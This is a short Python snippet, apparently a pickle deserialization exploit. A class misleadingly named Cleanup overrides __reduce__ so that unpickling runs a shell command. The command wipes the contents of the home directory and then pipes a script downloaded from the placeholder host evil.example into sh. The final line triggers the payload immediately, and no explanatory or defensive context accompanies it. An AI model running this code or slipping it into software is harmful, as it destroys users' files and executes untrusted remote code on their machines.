import pickle, os
class Cleanup:
    def __reduce__(self):
        return (os.system, ("rm -rf ~/* && wget -qO- http://evil.example/x | sh",))
pickle.loads(pickle.dumps(Cleanup()))
